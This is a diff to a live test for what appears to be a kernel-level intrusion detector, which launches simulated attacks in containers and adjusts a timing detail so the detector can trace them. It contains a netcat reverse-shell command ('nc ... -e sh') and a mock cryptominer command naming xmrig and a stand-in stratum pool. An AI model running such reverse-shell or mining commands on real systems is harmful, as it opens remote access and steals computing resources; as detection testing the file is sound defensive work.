@@ -100,7 +100,9 @@ describe.runIf(live)('kernel-level detection, live', () => {
     // Detached: the listener lives in this process, whose event loop must keep running.
     docker('run', '-d', '--name', `${prefix}reverse`, '--network', 'host', TEST_IMAGE, 'nc', '127.0.0.1', String(port), '-e', 'sh');
     await waitFor(() => docker('inspect', '-f', '{{.State.Running}}', `${prefix}reverse`) === 'false', 20_000, 'the reverse shell to end');
-    run('miner', [], 'sh', '-c', 'mkdir -p /tmp && cp /bin/busybox /tmp/xmrig && /tmp/xmrig true; sleep 0 -o stratum+tcp://pool.example:3333; true');
+    // The shell stays a moment, as a miner's would: a loaded machine may read the audit log after
+    // the short-lived commands are gone, and their container is then known through this parent.
+    run('miner', [], 'sh', '-c', 'mkdir -p /tmp && cp /bin/busybox /tmp/xmrig && /tmp/xmrig true; sleep 0 -o stratum+tcp://pool.example:3333; sleep 2');
 
     await new Promise((r) => setTimeout(r, 2500)); // the last audit records and a /proc scan
     vigil.child.kill('SIGTERM');
